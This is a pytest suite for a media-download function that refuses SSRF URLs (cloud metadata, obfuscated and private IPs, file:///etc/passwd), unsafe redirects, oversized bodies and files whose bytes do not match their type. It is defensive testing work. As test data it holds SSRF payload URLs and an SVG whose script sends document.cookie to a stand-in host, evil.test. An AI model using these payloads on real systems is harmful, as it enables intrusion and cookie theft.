from __future__ import annotations

import asyncio
import io
import socket
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import pytest_asyncio
from PIL import Image

from pipeline.providers.base import ProviderError
from pipeline.providers.download import download_media
from tests.fakes.fal import FakeMediaHost
from tests.fakes.providers import MP4, PNG, WEBM

CAP = 1024 * 1024


@pytest_asyncio.fixture
async def host() -> AsyncIterator[FakeMediaHost]:
    async with FakeMediaHost() as server:
        yield server


@pytest_asyncio.fixture
async def client() -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient() as http:
        yield http


async def refused(client: httpx.AsyncClient, url: str, allowed: list[str]) -> ProviderError:
    with pytest.raises(ProviderError) as caught:
        await download_media(client, url, allowed_hosts=allowed, max_bytes=CAP)
    assert not caught.value.retryable
    assert caught.value.message.startswith("media download refused: ")
    return caught.value


def resolve_to(monkeypatch: pytest.MonkeyPatch, address: str) -> None:
    """Make every name resolve to `address`, without touching the network."""

    async def getaddrinfo(host: str, port: int, **_: Any) -> list[Any]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        return [(family, socket.SOCK_STREAM, 6, "", (address, port))]

    monkeypatch.setattr(asyncio.get_running_loop(), "getaddrinfo", getaddrinfo)


@pytest.mark.asyncio
@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://[::1]/",
        "http://10.0.0.1/",
        "https://fal.media.evil.test/x.png",
        "file:///etc/passwd",
    ],
)
async def test_hosts_off_the_allowlist_are_refused(client: httpx.AsyncClient, url: str) -> None:
    await refused(client, url, ["fal.media", "*.fal.media"])


@pytest.mark.asyncio
@pytest.mark.parametrize("url", ["https://2852039166/", "https://0xa9fea9fe/", "https://127.1/"])
async def test_numeric_tricks_are_refused_even_when_listed(
    client: httpx.AsyncClient, url: str
) -> None:
    listed = httpx.URL(url).host
    error = await refused(client, url, [listed])
    assert "numeric address" in error.message


@pytest.mark.asyncio
async def test_localhost_resolves_to_loopback(client: httpx.AsyncClient) -> None:
    error = await refused(client, "https://localhost/x.png", ["localhost"])
    assert "non-public address" in error.message


@pytest.mark.asyncio
@pytest.mark.parametrize("address", ["10.1.2.3", "169.254.169.254", "::ffff:127.0.0.1", "fe80::1"])
async def test_names_resolving_to_private_addresses_are_refused(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    resolve_to(monkeypatch, address)
    error = await refused(client, "https://cdn.example.com/x.png", ["cdn.example.com"])
    assert "non-public address" in error.message


@pytest.mark.asyncio
async def test_wildcards_match_names_only(client: httpx.AsyncClient) -> None:
    await refused(client, "http://10.0.0.1/", ["*.1"])


@pytest.mark.asyncio
async def test_names_need_https(client: httpx.AsyncClient) -> None:
    error = await refused(client, "http://fal.media/x.png", ["fal.media"])
    assert "https" in error.message


@pytest.mark.asyncio
async def test_listed_address_literal_works(host: FakeMediaHost, client: httpx.AsyncClient) -> None:
    url = host.add("/img.png", PNG, "image/png")
    data, content_type = await download_media(
        client, url, allowed_hosts=[f"127.0.0.1:{host.port}"], max_bytes=CAP
    )
    assert (data, content_type) == (PNG, "image/png")


@pytest.mark.asyncio
async def test_listed_address_without_port_matches_only_the_default_port(
    host: FakeMediaHost, client: httpx.AsyncClient
) -> None:
    await refused(client, host.add("/img.png", PNG), ["127.0.0.1"])


@pytest.mark.asyncio
async def test_redirect_to_a_disallowed_host_is_refused(
    host: FakeMediaHost, client: httpx.AsyncClient
) -> None:
    url = host.redirect("/img.png", "http://169.254.169.254/latest/meta-data/")
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert "169.254.169.254" in error.message


@pytest.mark.asyncio
async def test_relative_redirect_on_an_allowed_host_is_followed(
    host: FakeMediaHost, client: httpx.AsyncClient
) -> None:
    host.add("/real.png", PNG)
    url = host.redirect("/img.png", "/real.png")
    data, _ = await download_media(
        client, url, allowed_hosts=[f"127.0.0.1:{host.port}"], max_bytes=CAP
    )
    assert data == PNG


@pytest.mark.asyncio
async def test_too_many_redirects(host: FakeMediaHost, client: httpx.AsyncClient) -> None:
    url = host.redirect("/loop", "/loop")
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert "redirects" in error.message
    assert len(host.requests) == 4


@pytest.mark.asyncio
@pytest.mark.parametrize("chunked", [False, True])
async def test_body_over_the_cap_is_refused(
    host: FakeMediaHost, client: httpx.AsyncClient, chunked: bool
) -> None:
    url = host.add("/big.png", b"\0" * (CAP + 1), chunked=chunked)
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert "limit" in error.message


@pytest.mark.asyncio
async def test_wrong_content_type_is_refused(
    host: FakeMediaHost, client: httpx.AsyncClient
) -> None:
    url = host.add("/page", b"<html></html>", "text/html")
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert "text/html" in error.message


@pytest.mark.asyncio
async def test_only_the_allowed_types(host: FakeMediaHost, client: httpx.AsyncClient) -> None:
    url = host.add("/clip.mp4", b"video", "video/mp4")
    with pytest.raises(ProviderError):
        await download_media(
            client,
            url,
            allowed_hosts=[f"127.0.0.1:{host.port}"],
            max_bytes=CAP,
            allowed_types=("image/",),
        )


@pytest.mark.asyncio
@pytest.mark.parametrize(("status", "retryable"), [(404, False), (503, True)])
async def test_http_errors(
    host: FakeMediaHost, client: httpx.AsyncClient, status: int, retryable: bool
) -> None:
    host.fail(status)
    with pytest.raises(ProviderError) as caught:
        await download_media(
            client, f"{host.url}/x.png", allowed_hosts=[f"127.0.0.1:{host.port}"], max_bytes=CAP
        )
    assert (caught.value.status, caught.value.retryable) == (status, retryable)


# -- the bytes must be what the Content-Type claims --------------------------------------------

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
    b"<script>fetch('https://evil.test/?c=' + document.cookie)</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def encoded(image_format: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """A real image in `image_format`, made with Pillow; noisy, so a JPEG has many scans' worth."""
    image = Image.frombytes("RGB", size, bytes(range(256)) * (size[0] * size[1] * 3 // 256 + 1))
    out = io.BytesIO()
    image.save(out, format=image_format)
    return out.getvalue()


async def fetched(host: FakeMediaHost, client: httpx.AsyncClient, url: str) -> tuple[bytes, str]:
    return await download_media(
        client, url, allowed_hosts=[f"127.0.0.1:{host.port}"], max_bytes=CAP
    )


@pytest.mark.asyncio
@pytest.mark.parametrize(
    ("body", "content_type", "reason"),
    [
        pytest.param(
            SVG_WITH_SCRIPT,
            "image/png",
            "the image from 127.0.0.1 is not a PNG (it reads as SVG)",
            id="svg-as-png",
        ),
        pytest.param(
            HTML_PAGE,
            "image/png",
            "the image from 127.0.0.1 is not a PNG (it reads as HTML)",
            id="html-as-png",
        ),
        pytest.param(
            HTML_PAGE,
            "image/jpeg",
            "the image from 127.0.0.1 is not a JPEG (it reads as HTML)",
            id="html-as-jpeg",
        ),
        pytest.param(
            b"just some notes\n",
            "video/mp4",
            "the video from 127.0.0.1 is not an MP4 (it reads as text)",
            id="text-as-mp4",
        ),
        pytest.param(
            MP4,
            "video/webm",
            "the video from 127.0.0.1 is not a WebM (it reads as MP4/MOV)",
            id="mp4-as-webm",
        ),
        pytest.param(
            WEBM,
            "video/mp4",
            "the video from 127.0.0.1 is not an MP4 (it reads as WebM/Matroska)",
            id="webm-as-mp4",
        ),
        pytest.param(
            b"",
            "image/png",
            "the image from 127.0.0.1 is not a PNG (it reads as an empty file)",
            id="empty-as-png",
        ),
    ],
)
async def test_bytes_that_are_not_what_they_claim_are_refused_with_the_reason(
    host: FakeMediaHost, client: httpx.AsyncClient, body: bytes, content_type: str, reason: str
) -> None:
    url = host.add("/media", body, content_type)
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert error.message == f"media download refused: {reason}"


@pytest.mark.asyncio
async def test_an_image_of_another_format_is_refused(
    host: FakeMediaHost, client: httpx.AsyncClient
) -> None:
    url = host.add("/hero.png", encoded("JPEG"), "image/png")
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert error.message.endswith("is not a PNG (it reads as JPEG)")


@pytest.mark.asyncio
@pytest.mark.parametrize("chunked", [False, True])
async def test_a_truncated_jpeg_is_refused(
    host: FakeMediaHost, client: httpx.AsyncClient, chunked: bool
) -> None:
    whole = encoded("JPEG", (256, 256))
    url = host.add("/hero.jpeg", whole[: len(whole) // 2], "image/jpeg", chunked=chunked)
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert error.message.startswith(
        "media download refused: the image from 127.0.0.1 is a truncated or damaged JPEG ("
    )


@pytest.mark.asyncio
async def test_svg_is_never_accepted_even_labelled_as_svg(
    host: FakeMediaHost, client: httpx.AsyncClient
) -> None:
    url = host.add("/hero.svg", SVG_WITH_SCRIPT, "image/svg+xml")
    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
    assert "'image/svg+xml' is not a supported media type" in error.message


@pytest.mark.asyncio
@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        pytest.param(PNG, "image/png", id="tiny-png"),
        pytest.param(encoded("PNG"), "image/png", id="png"),
        pytest.param(encoded("JPEG"), "image/jpeg", id="jpeg"),
        pytest.param(encoded("WEBP"), "image/webp", id="webp"),
        pytest.param(encoded("GIF"), "image/gif", id="gif"),
        pytest.param(MP4, "video/mp4", id="mp4"),
        pytest.param(MP4, "video/quicktime", id="mov"),
        pytest.param(WEBM, "video/webm", id="webm"),
        pytest.param(WEBM, "video/x-matroska", id="mkv"),
    ],
)
async def test_real_media_is_accepted_as_it_came(
    host: FakeMediaHost, client: httpx.AsyncClient, body: bytes, content_type: str
) -> None:
    url = host.add("/media", body, f"{content_type}; charset=binary")
    assert await fetched(host, client, url) == (body, content_type)
